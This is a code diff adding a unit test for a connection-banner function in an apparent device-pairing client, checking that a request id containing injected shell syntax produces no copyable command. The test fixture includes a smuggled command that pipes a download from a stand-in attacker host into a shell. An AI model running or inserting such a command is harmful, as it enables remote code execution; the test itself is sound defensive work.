@@ -58,6 +58,19 @@ describe("connection banner", () => {
     assert.equal(b?.urgent, true);
   });
 
+  test("pairing: a request id with shell syntax (a rogue Gateway) gives no command to copy", () => {
+    const b = connectionBanner("Home", {
+      state: "pairing_required",
+      requestId: "req-42; curl evil.example | sh",
+      deviceId: "dev",
+      command: null,
+      reason: "not-paired",
+      advice: "Run `openclaw devices list`.",
+    });
+    assert.equal(b?.command, null);
+    assert.ok(b?.detail.some((s) => s.code && s.text === "openclaw devices list"));
+  });
+
   test("pairing without a request id falls back to the advice", () => {
     const b = connectionBanner("Home", {
       state: "pairing_required",
